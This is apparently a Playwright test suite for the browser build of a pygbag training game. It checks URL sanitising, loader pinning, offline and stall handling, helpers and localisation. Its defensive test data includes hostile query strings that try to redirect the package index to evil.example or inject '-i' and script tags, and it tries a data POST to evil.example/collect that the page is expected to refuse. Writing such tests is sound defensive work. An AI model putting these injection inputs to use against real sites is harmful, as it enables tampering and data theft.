"""The built page in headless Chromium: URL cleaning, pinned loader config, helpers, offline message.

pygbag's runtime cannot be fetched here (no internet), so every request to its CDN is routed to
fail fast; what is tested is everything our page does before and around the runtime. Screenshots
of each state go to build/out/web-screens/ for a person to look at.
"""

from __future__ import annotations

import shutil
import threading
from urllib.parse import urlsplit

import pytest

from game.webbuild.build import DEFAULT_CDN
from game.webbuild.serve import make_server
from game.webbuild.stage import ROOT

CHROMIUM = shutil.which("chromium")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (CI installs it)"),
]
SCREENS = ROOT / "build" / "out" / "web-screens"
CDN_HOST = urlsplit(DEFAULT_CDN).netloc


@pytest.fixture(scope="module")
def site(web_build):
    server = make_server(web_build.web_dir, "127.0.0.1", 0)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    host, port = server.server_address[:2]
    yield f"http://{host}:{port}/"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        instance = pw.chromium.launch(
            executable_path=CHROMIUM, headless=True,
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--no-first-run"],
        )
        yield instance
        instance.close()


@pytest.fixture
def page(browser, tmp_path):
    context = browser.new_context(accept_downloads=True, viewport={"width": 1280, "height": 720})
    pg = context.new_page()
    pg.runtime_requests = []
    pg.dialogs = []
    pg.on("dialog", lambda dialog: (pg.dialogs.append(dialog.message), dialog.dismiss()))

    def runtime(route):
        pg.runtime_requests.append(route.request.url)
        route.abort("internetdisconnected")

    pg.route(f"https://{CDN_HOST}/**", runtime)
    pg.route(lambda url: not url.startswith(("http://127.0.0.1", f"https://{CDN_HOST}/")),
             lambda route: route.abort())
    yield pg
    context.close()


def shot(pg, name):
    SCREENS.mkdir(parents=True, exist_ok=True)
    pg.screenshot(path=str(SCREENS / f"{name}.png"))


def test_page_loads_and_asks_the_cdn_for_the_runtime_then_says_it_is_offline(page, site):
    page.goto(site + "index.html")
    assert page.title() == "RightsPath"
    page.wait_for_selector("#rp-offline", state="visible", timeout=15000)
    assert page.runtime_requests[0] == DEFAULT_CDN + "pythons.js"
    text = page.inner_text("#rp-offline")
    assert "could not be downloaded" in text and "Facilitator" in text and "README" in text
    assert page.inner_text("#rp-cdn") == DEFAULT_CDN
    assert page.dialogs == []
    shot(page, "offline")


def test_loading_screen_while_the_runtime_downloads(browser, site):
    context = browser.new_context(viewport={"width": 1280, "height": 720})
    pg = context.new_page()
    pending = []
    pg.route(f"https://{CDN_HOST}/**", lambda route: pending.append(route))  # never answered
    pg.goto(site + "index.html", wait_until="commit")  # DOMContentLoaded waits for pythons.js
    pg.wait_for_function("window.rpStageName === 'loading'")
    assert pg.is_visible("#transfer") and not pg.is_visible("#rp-offline")
    assert "Loading" in pg.inner_text("#rp-stage")
    assert pg.inner_text("#transfer h1") == "RightsPath"
    assert pg.evaluate("getComputedStyle(document.getElementById('canvas')).borderTopWidth") == "0px"
    assert pg.evaluate("getComputedStyle(document.getElementById('canvas')).paddingLeft") == "0px"
    shot(pg, "loading")
    context.close()


HOSTILE = [
    ("?PYGPI=https://evil.example/&scenario=mira#debug", "?scenario=mira", {"scenario": "mira"}),
    ("?-i&lang=bg&mode=facilitated", "?lang=bg&mode=facilitated", {"lang": "bg", "mode": "facilitated"}),
    ("?scenario=happy&trainee=T07", "?cpython3.12&scenario=happy&trainee=T07",
     {"scenario": "happy", "trainee": "T07"}),
    ("?session=" + "A" * 41 + "&trainee=" + "B" * 40, "?trainee=" + "B" * 40, {"trainee": "B" * 40}),
    ("?session=%3Cscript%3E&trainee=T-i2&lang=en%20x&mode=learning", "?mode=learning", {"mode": "learning"}),
    ("?trainee=T01&trainee=T99&scenario=x", "?scenario=x&trainee=T01", {"scenario": "x", "trainee": "T01"}),
    ("?python3.11&cpython3.12", "", {}),
    ("#-i", "", {}),
]


@pytest.mark.parametrize("query,clean,params", HOSTILE)
def test_hostile_query_strings_are_cleaned_before_the_loader(page, site, query, clean, params):
    page.goto(site + "index.html" + query)
    assert page.evaluate("location.search") == clean.split("#")[0]
    assert page.evaluate("location.hash") == ""
    assert page.evaluate("window.rpParams") == params
    search = page.evaluate("location.search")
    assert "-i" not in search and "PYGPI" not in search
    config = page.evaluate("window.config")
    assert config["pydigits"] == "312"
    assert config["executable"] == DEFAULT_CDN + "cpython312/main.js"
    assert config["cdn"] == DEFAULT_CDN and config["archive"] == "rightspath"
    assert config["debug"] is False and config["interactive"] == 0


def test_download_helper_produces_the_exact_bytes(page, site, tmp_path):
    page.goto(site + "index.html")
    text = '{"trainee": "T07", "name": "Лена Ελένη Zoë", "note": "line 1\\r\\nline 2\\n"}\n'
    with page.expect_download() as info:
        assert page.evaluate("([t]) => window.rpDownload('T07-results.json', t, 'application/json')", [text])
    download = info.value
    assert download.suggested_filename == "T07-results.json"
    target = tmp_path / "got.json"
    download.save_as(target)
    assert target.read_bytes() == text.encode("utf-8")


def test_storage_survives_a_reload_and_there_is_no_leave_prompt(page, site):
    page.goto(site + "index.html?session=S1")
    page.evaluate("localStorage.setItem('rightspath:progress-mira', '{\"step\": 4, \"who\": \"Мира\"}')")
    page.reload()
    assert page.evaluate("localStorage.getItem('rightspath:progress-mira')") == '{"step": 4, "who": "Мира"}'
    assert page.evaluate("window.onbeforeunload") is None
    assert page.dialogs == []


def test_status_line_and_first_gesture(page, site):
    page.goto(site + "index.html")
    assert not page.is_visible("#rp-status")
    assert page.evaluate("window.rpGesture") is False
    page.keyboard.press("Space")
    assert page.evaluate("window.rpGesture") is True
    page.evaluate("window.rpStatus('Browser storage is full: use Export to keep your results.')")
    assert page.inner_text("#rp-status") == "Browser storage is full: use Export to keep your results."
    shot(page, "status-line")
    page.evaluate("window.rpStatus('')")
    assert not page.is_visible("#rp-status")


def test_post_json_goes_to_the_same_origin_only(page, site):
    page.goto(site + "index.html")
    ticket = page.evaluate("window.rpPostJSON('results', '{\"a\": 1}')")
    page.wait_for_function("([t]) => window.rpPostResult(t) !== null", arg=[ticket])
    # The static server answers POST with 501: the helper reports it instead of throwing.
    other = page.evaluate("window.rpPostJSON('results', '{}')")
    page.wait_for_function("([t]) => { const r = window.rpPostResult(t); window.__r = r; return r !== null }",
                           arg=[other])
    assert page.evaluate("window.__r") == "the server answered 501"
    refused = page.evaluate("window.rpPostJSON('https://evil.example/collect', '{}')")
    assert page.evaluate("([t]) => window.rpPostResult(t)", [refused]).startswith("refused")


SELF_HOSTED = "http://127.0.0.1:9/venue-cdn/0.9.3/"  # port 9 (discard): refused at once


@pytest.fixture(scope="module")
def self_hosted_site(tmp_path_factory):
    from game.webbuild.build import build_web
    from tests.web.conftest import scenarios_to_bundle

    report = build_web(out_dir=tmp_path_factory.mktemp("selfhosted"), scenarios_dir=scenarios_to_bundle(),
                       cdn=SELF_HOSTED)
    server = make_server(report.web_dir, "127.0.0.1", 0)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


def test_self_hosted_runtime_points_loader_and_package_index_at_the_venue(browser, self_hosted_site):
    context = browser.new_context(viewport={"width": 1280, "height": 720})
    pg = context.new_page()
    requested = []
    pg.on("request", lambda request: requested.append(request.url))
    pg.route(lambda url: not url.startswith("http://127.0.0.1"), lambda route: route.abort())
    pg.goto(self_hosted_site + "index.html?PYGPI=https://evil.example/&session=S1", wait_until="commit")
    pg.wait_for_selector("#rp-offline", state="visible", timeout=15000)
    assert pg.evaluate("location.search") == "?session=S1&PYGPI=http://127.0.0.1:9/venue-cdn/"
    assert pg.evaluate("window.config.executable") == SELF_HOSTED + "cpython312/main.js"
    assert SELF_HOSTED + "pythons.js" in requested
    hosts = {urlsplit(url).netloc for url in requested}
    assert hosts <= {"127.0.0.1:9", urlsplit(self_hosted_site).netloc}, hosts
    assert pg.inner_text("#rp-cdn") == SELF_HOSTED
    shot(pg, "offline-self-hosted")
    context.close()


def test_start_up_stages_drive_the_loading_screen(page, site):
    """The calls the page's Python start-up code makes, in its order, and what each one shows."""
    page.goto(site + "index.html")
    page.wait_for_selector("#rp-offline", state="visible")  # the runtime is unreachable here...
    page.evaluate("window.rpStage('unpack', 'Unpacking the game')")  # ...so play its part by hand
    assert not page.is_visible("#rp-offline")
    assert page.inner_text("#rp-stage") == "Unpacking the game"
    page.evaluate("window.rpStage('ready', 'Click or press any key to start')")
    assert page.evaluate("document.getElementById('progress').value") == 100
    shot(page, "ready")
    page.evaluate("window.rpStage('run')")
    assert not page.is_visible("#transfer")
    assert page.evaluate("getComputedStyle(document.getElementById('canvas')).visibility") == "visible"
    page.evaluate("window.rpShowOffline('late error')")  # a late runtime error must not cover the game
    assert not page.is_visible("#transfer") and not page.is_visible("#rp-offline")


def test_failed_bundle_is_reported(page, site):
    page.goto(site + "index.html")
    page.evaluate("window.rpStage('failed', 'The game files could not be loaded (HTTP 404).')")
    assert page.inner_text("#rp-stage") == "The game files could not be loaded (HTTP 404)."


def offline_after_ms() -> int:
    """The page's own stall limit (nothing arrived for this long), read from the built template."""
    import re

    template = (ROOT / "build" / "template.html").read_text(encoding="utf-8")
    return int(re.search(r"var STALL_MS = window.rpStallMs \|\| (\d+);", template).group(1))


def test_a_runtime_that_never_answers_is_reported_after_the_time_limit(browser, site):
    """Not a refused request (that is reported at once) but one that hangs: only the timer can tell."""
    limit = offline_after_ms()
    context = browser.new_context(viewport={"width": 1280, "height": 720})
    pg = context.new_page()
    pg.clock.install()  # the page's setTimeout runs on a clock the test moves by hand
    hanging = []
    pg.route(f"https://{CDN_HOST}/**", lambda route: hanging.append(route.request.url))  # never answered
    pg.route(lambda url: not url.startswith(("http://127.0.0.1", f"https://{CDN_HOST}/")),
             lambda route: route.abort())
    pg.goto(site + "index.html", wait_until="commit")
    pg.wait_for_function("window.rpStageName === 'loading'")
    pg.clock.run_for(limit - 1000)
    assert pg.evaluate("window.rpStageName") == "loading" and not pg.is_visible("#rp-offline")
    pg.clock.run_for(2000)
    pg.wait_for_selector("#rp-offline", state="visible")
    assert pg.evaluate("window.rpOfflineReason") == "stalled"
    assert pg.inner_text("#rp-stage") == "Could not start"
    text = pg.inner_text("#rp-offline")
    assert "could not be downloaded" in text and "Facilitator" in text
    assert pg.inner_text("#rp-cdn") == DEFAULT_CDN
    assert hanging and hanging[0] == DEFAULT_CDN + "pythons.js"
    shot(pg, "offline-timeout")
    context.close()


class _SlowRuntime:
    """A stand-in for the runtime's big download on 127.0.0.1: ``chunks`` pieces of ``chunk`` bytes,
    one every ``every`` seconds (Content-Length known), or with ``silent`` the headers and then
    nothing until the test ends."""

    def __init__(self, chunks=20, chunk=4096, every=0.3, silent=False):
        import http.server
        import time

        outer = self
        self.release = threading.Event()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "application/wasm")
                self.send_header("Content-Length", str(chunks * chunk))
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.flush()
                if silent:
                    outer.release.wait(60)
                    return
                for _ in range(chunks):
                    self.wfile.write(b"\0" * chunk)
                    self.wfile.flush()
                    time.sleep(every)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()
        self.url = "http://127.0.0.1:%d/cpython312/main.wasm" % self.server.server_address[1]

    def close(self):
        self.release.set()
        self.server.shutdown()
        self.server.server_close()


def _page_with_stand_in(browser, runtime, stall_ms, query=""):
    """The built page whose runtime loader (pythons.js) is a stand-in that downloads ``runtime``
    with fetch(), as the real loader fetches the interpreter; the page's stall limit is shortened
    to ``stall_ms`` so the test runs in seconds (the page reads window.rpStallMs for exactly this)."""
    context = browser.new_context(viewport={"width": 1280, "height": 720})
    pg = context.new_page()
    pg.add_init_script(f"window.rpStallMs = {stall_ms};")
    stand_in = (f"fetch({runtime.url!r}).then(r => r.arrayBuffer())"
                ".then(b => {{ window.rpStandInGot = b.byteLength; }})")

    def cdn(route):
        if route.request.url.endswith("/pythons.js"):
            route.fulfill(status=200, content_type="text/javascript", body=stand_in)
        else:
            route.abort()

    pg.route(f"https://{CDN_HOST}/**", cdn)
    pg.route(lambda url: not url.startswith(("http://127.0.0.1", f"https://{CDN_HOST}/")),
             lambda route: route.abort())
    return context, pg


def test_a_slow_runtime_that_keeps_sending_is_never_called_offline(browser, site):
    """Bytes that keep coming, for four times the stall limit, are progress, shown in bytes and %.
    (Scaled down: the real limit is 30 s and a 3G phone may take minutes; the rule is the same.)"""
    runtime = _SlowRuntime(chunks=20, chunk=4096, every=0.3)  # 6 s of trickle
    context, pg = _page_with_stand_in(browser, runtime, stall_ms=1500)
    try:
        pg.goto(site + "index.html", wait_until="commit")
        pg.wait_for_function("window.rpBytes && window.rpBytes().received > 0", timeout=15000)
        seen = set()
        while pg.evaluate("window.rpStandInGot") is None:
            assert pg.evaluate("window.rpStageName") == "loading", pg.evaluate("window.rpOfflineReason")
            assert not pg.is_visible("#rp-offline")
            seen.add(pg.inner_text("#rp-bytes"))
            pg.wait_for_timeout(400)
        assert pg.evaluate("window.rpStandInGot") == 20 * 4096
        assert pg.evaluate("window.rpBytes()") == {"received": 81920, "expected": 81920, "unknownSize": False}
        assert pg.inner_text("#rp-bytes") == "82 kB of 82 kB downloaded (100 %)"
        assert len(seen) >= 4 and any("%" in text for text in seen)  # it moved while it came
        pg.wait_for_timeout(300)
        shot(pg, "loading-progress")
    finally:
        context.close()
        runtime.close()


def test_a_runtime_that_stops_sending_is_reported_after_the_stall_limit(browser, site):
    runtime = _SlowRuntime(silent=True)  # the headers, then nothing
    context, pg = _page_with_stand_in(browser, runtime, stall_ms=1500)
    try:
        pg.goto(site + "index.html", wait_until="commit")
        pg.wait_for_selector("#rp-offline", state="visible", timeout=15000)
        assert pg.evaluate("window.rpOfflineReason") == "stalled"
        assert pg.evaluate("window.rpBytes().received") == 0
        assert "Nothing has arrived for 2 seconds." in pg.inner_text("#rp-offline")
    finally:
        context.close()
        runtime.close()


def test_loading_texts_follow_the_links_language(page, site):
    page.goto(site + "index.html?lang=bg&scenario=mira")
    assert page.evaluate("document.documentElement.lang") == "bg"
    assert page.inner_text(".subtitle") == "Правата на децата жертви на практика: обучителна симулация"
    page.wait_for_selector("#rp-offline", state="visible", timeout=15000)  # the runtime is unreachable
    assert page.inner_text("#rp-stage") == "Играта не може да започне"
    assert page.inner_text("#rp-offline h2") == "Игровият двигател не може да бъде изтеглен"
    assert page.inner_text("#rp-cdn") == DEFAULT_CDN
    assert "Опитайте отново" in page.inner_text("#rp-offline button")
    page.evaluate("window.rpStage('unpack', 'Unpacking the game')")  # the start-up's English fallback...
    assert page.inner_text("#rp-stage") == "Разопаковане на играта"  # ...gives way to the page's own text
    shot(page, "offline-bg")
